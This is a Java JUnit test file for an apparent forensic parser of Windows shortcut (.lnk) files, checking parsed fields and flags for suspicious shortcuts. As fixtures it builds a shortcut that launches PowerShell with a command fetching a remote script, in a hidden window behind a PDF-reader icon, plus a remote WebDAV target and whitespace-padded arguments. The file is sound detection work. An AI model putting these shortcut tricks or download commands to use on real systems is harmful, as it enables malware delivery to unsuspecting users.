package org.atalaya.evidence.lnk;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import org.atalaya.evidence.Gathered;
import org.atalaya.evidence.image.Ask;
import org.atalaya.fixtures.LnkWriter;
import org.atalaya.model.Structure;
import org.junit.jupiter.api.Test;

class LnkTest {
    private static Gathered read(LnkWriter writer) throws IOException {
        return Gathered.from(new Lnk(), writer.bytes());
    }

    @Test
    void allPartsOfAShortcutAreWhatWasWritten() throws IOException {
        Gathered found = read(new LnkWriter()
                .path("C:\\Tools\\app.exe")
                .text("name", "Nómina")
                .text("relative", "..\\app.exe")
                .text("directory", "C:\\Tools")
                .text("arguments", "-x 1")
                .text("icon", "C:\\Tools\\app.ico")
                .machine("desk-1")
                .overlay(new byte[5]));
        Structure.Struct lnk = found.structures.get("lnk");
        assertThat(Ask.of(lnk, "is_lnk")).isEqualTo(true);
        assertThat(Ask.of(lnk, "local_base_path")).isEqualTo("C:\\Tools\\app.exe");
        assertThat(Ask.of(lnk, "name"))
                .isEqualTo(new String("Nómina".getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1));
        assertThat(Ask.of(lnk, "relative_path")).isEqualTo("..\\app.exe");
        assertThat(Ask.of(lnk, "working_dir")).isEqualTo("C:\\Tools");
        assertThat(Ask.of(lnk, "cmd_line_args")).isEqualTo("-x 1");
        assertThat(Ask.of(lnk, "icon_location")).isEqualTo("C:\\Tools\\app.ico");
        assertThat(Ask.of(lnk, "drive_serial_number")).isEqualTo(0xCAFEL);
        assertThat(Ask.of(lnk, "creation_time")).isEqualTo(1_655_526_400L);
        assertThat(Ask.of(lnk, "access_time")).isNull();
        assertThat(Ask.of(lnk, "tracker_data.machine_id")).isEqualTo("desk-1");
        assertThat(Ask.of(lnk, "overlay_size")).isEqualTo(5L);
        assertThat(found.codes()).contains("lnk.overlay", "lnk.made-on").doesNotContain("lnk.runs-interpreter");
        assertThat(found.child("overlay").bytes()).hasSize(5);
    }

    @Test
    void aHiddenInterpreterWithADocumentsIconIsToldAndItsCommandIsHandedOn() throws IOException {
        Gathered found = read(new LnkWriter()
                .path("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
                .text("arguments", "-c iwr http://files.example.com/a.ps1")
                .text("icon", "C:\\Program Files\\Reader\\AcroRd32.exe")
                .show(7));
        assertThat(found.codes())
                .contains("lnk.runs-interpreter", "lnk.hidden-window", "lnk.icon-mismatch", "lnk.remote-argument");
        assertThat(found.child("arguments").text()).isEqualTo("powershell.exe -c iwr http://files.example.com/a.ps1");
    }

    @Test
    void theTargetOfTheEnvironmentBlockCountsBeforeThePath() throws IOException {
        Gathered found = read(new LnkWriter()
                .path("C:\\Windows\\notepad.exe")
                .environment("%windir%\\System32\\mshta.exe")
                .text("arguments", "x"));
        assertThat(found.codes()).contains("lnk.runs-interpreter");
    }

    @Test
    void theCommandInterpreterIsKnownByItsVariable() throws IOException {
        assertThat(read(new LnkWriter().environment("%ComSpec%").text("arguments", "/c x"))
                        .codes())
                .contains("lnk.runs-interpreter");
    }

    @Test
    void aTargetOnAnotherComputerIsTold() throws IOException {
        assertThat(read(new LnkWriter().path("\\\\files.example.com@80\\DavWWWRoot\\a.exe"))
                        .codes())
                .contains("lnk.remote-target");
        assertThat(read(new LnkWriter().path("\\\\?\\C:\\a.exe")).codes()).doesNotContain("lnk.remote-target");
    }

    @Test
    void argumentsThatExplorerDoesNotShowAreTold() throws IOException {
        assertThat(read(new LnkWriter().path("C:\\a.exe").text("arguments", " ".repeat(300) + "x"))
                        .codes())
                .contains("lnk.arguments-out-of-sight");
    }

    @Test
    void aShortcutThatIsCutOffSaysSoAndKeepsWhatCameBefore() throws IOException {
        byte[] bytes =
                new LnkWriter().path("C:\\a.exe").text("arguments", "abcdef").bytes();
        Gathered found = Gathered.from(new Lnk(), java.util.Arrays.copyOf(bytes, bytes.length - 10));
        assertThat(found.notices).hasSize(1);
        assertThat(Ask.of(found.structures.get("lnk"), "local_base_path")).isEqualTo("C:\\a.exe");
    }
}
